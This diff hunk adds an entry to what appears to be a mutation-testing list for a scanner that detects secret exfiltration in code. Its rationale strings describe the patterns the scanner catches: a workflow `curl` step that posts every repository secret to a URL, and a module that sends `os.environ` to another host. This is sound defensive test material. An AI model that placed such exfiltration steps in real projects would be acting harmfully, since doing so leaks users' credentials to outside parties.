@@ -862,6 +862,14 @@ export const MUTANTS = [
     why: 'a workflow step `curl -d "${{ toJSON(secrets) }}" URL` sends every repository secret unasked',
   },
   {
+    id: 'parse.code-env-module-unread',
+    file: 'src/core/parse/codeWords.ts',
+    from: '  return SERVICE_CALL.test(code) || ENV_READ.test(code) || STRING_WORD.test(unescaped(code));',
+    to: '  return SERVICE_CALL.test(code) || STRING_WORD.test(unescaped(code));',
+    tests: ['parse/codeWords', 'parse/codeEnvModules'],
+    why: 'a workspace module that only posts `dict(os.environ)` to another host is skipped unread, so importing it sends every secret unasked',
+  },
+  {
     id: 'state.lock-gone-holder-waited',
     file: 'src/core/state/lockFile.ts',
     from: '(Date.now() - held.mtimeMs > STALE_LOCK_MS || holderGone(held))',
